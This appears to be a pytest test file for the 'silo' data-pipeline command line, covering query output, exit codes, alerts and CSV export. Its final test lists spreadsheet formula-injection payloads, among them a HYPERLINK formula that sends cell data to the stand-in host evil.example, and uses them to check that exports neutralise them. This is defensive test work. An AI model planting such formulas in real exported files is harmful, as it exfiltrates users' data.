"""The `silo` command: sub-commands registered, clear exit codes, `silo query` on a snapshot."""

import csv
import io
from pathlib import Path

import duckdb
import pytest

from pipelines.cli import COMMANDS, build_parser, main
from pipelines.cli.run import ALERT_EXIT, finish
from pipelines.config import load_workspace
from pipelines.publish.alerts import BREACHED, Evaluation, run_alerts, state_path


@pytest.fixture
def workspace(tmp_path):
    (tmp_path / "silo.yml").write_text("workspace: cli\nstart_date: 2026-01-05\n")
    (tmp_path / "warehouse").mkdir()
    with duckdb.connect(str(tmp_path / "warehouse" / "silo_snapshot.duckdb")) as con:
        con.execute("create table fct_x as select * from (values ('a', 1), ('b', 2)) t(k, n)")
    return tmp_path


def test_every_sub_command_is_registered():
    help_text = build_parser().format_help()
    for name in COMMANDS:
        assert name in help_text
    # and every command module beside the CLI is one of them (a new one cannot be forgotten)
    folder = Path(__file__).resolve().parents[3] / "pipelines" / "cli"
    modules = {p.stem for p in folder.glob("*.py") if "def register(" in p.read_text("utf-8")}
    assert modules == set(COMMANDS)


def test_query_prints_a_table_and_csv(workspace, capsys):
    assert main(["query", "-w", str(workspace), "select k, n from fct_x order by n"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["k", "n"] and out[2].split() == ["a", "1"] and out[-1] == "(2 rows)"
    assert main(["query", "-w", str(workspace), "--csv", "select k from fct_x order by k"]) == 0
    assert capsys.readouterr().out.splitlines() == ["k", "a", "b"]


def test_query_lists_tables_by_default_and_reports_sql_errors(workspace, capsys):
    assert main(["query", "-w", str(workspace)]) == 0
    assert "fct_x" in capsys.readouterr().out
    assert main(["query", "-w", str(workspace), "select nope from fct_x"]) == 2
    assert "nope" in capsys.readouterr().err


def test_a_bad_workspace_is_a_configuration_error(tmp_path, capsys):
    assert main(["query", "-w", str(tmp_path)]) == 2
    assert "silo.yml" in capsys.readouterr().err


def _open_one_alert(workspace, sinks=()):
    breach = Evaluation("cross_side_drop", "cross-side", BREACHED, "fell 76%", 0.76, 0.3)
    return run_alerts(
        state_path(workspace), [breach], sinks, workspace="cli", now=lambda: "2026-06-01"
    )


def test_alerts_lists_the_open_alerts_and_what_waits(workspace, capsys, monkeypatch):
    assert main(["alerts", "-w", str(workspace)]) == 0
    assert capsys.readouterr().out.strip() == "Open alerts: none"
    (workspace / "silo.yml").write_text(
        "workspace: cli\nstart_date: 2026-01-05\nalerts:\n"
        "  retry_backoff_seconds: 0\n"
        "  sinks: [{type: slack, webhook_env: CLI_TEST_SLACK_URL}]\n"
    )
    monkeypatch.delenv("CLI_TEST_SLACK_URL", raising=False)
    _open_one_alert(workspace, load_workspace(workspace).alerts.sinks)
    assert main(["alerts", "-w", str(workspace)]) == 0
    out = capsys.readouterr().out
    assert "! cross_side_drop:cross-side (since 2026-06-01; sent to no sink yet)" in out
    assert "cross_side_drop:cross-side#1:fired -> slack (1 attempts: environment variable " in out
    assert main(["alerts", "-w", str(workspace), "--json"]) == 0
    assert '"alert_id": "cross_side_drop:cross-side"' in capsys.readouterr().out


def test_fail_on_alert_exits_non_zero_only_when_asked_and_an_alert_is_open(workspace, capsys):
    ws = load_workspace(workspace)
    assert finish(ws, fail_on_alert=True) == 0
    _open_one_alert(workspace)
    assert finish(ws, fail_on_alert=False) == 0
    assert finish(ws, fail_on_alert=True) == ALERT_EXIT
    assert "1 alert(s) open (--fail-on-alert)" in capsys.readouterr().out
    assert build_parser().parse_args(["run", "-w", "x", "--fail-on-alert"]).fail_on_alert
    assert build_parser().parse_args(["demo", "--fail-on-alert"]).fail_on_alert


def test_csv_export_neutralises_formula_cells(workspace, capsys):
    """GIVEN titles a spreadsheet would run as formulas WHEN exported with --csv THEN each
    starts with a single quote (OWASP), and numbers stay numbers."""
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ]
    with duckdb.connect(str(workspace / "warehouse" / "silo_snapshot.duckdb")) as con:
        con.execute("create table fct_t (n integer, title varchar)")
        for n, title in enumerate(payloads):
            con.execute("insert into fct_t values (?, ?)", [-n, title])
        con.execute("insert into fct_t values (99, 'plain = text')")
    sql = "select * from fct_t order by n desc"
    assert main(["query", "-w", str(workspace), "--csv", sql]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["n", "title"]
    assert rows[1] == ["99", "plain = text"]
    for row, payload in zip(rows[2:], payloads, strict=True):
        assert row[1] == "'" + payload
    assert [r[0] for r in rows[2:]] == ["0", "-1", "-2", "-3", "-4", "-5"]
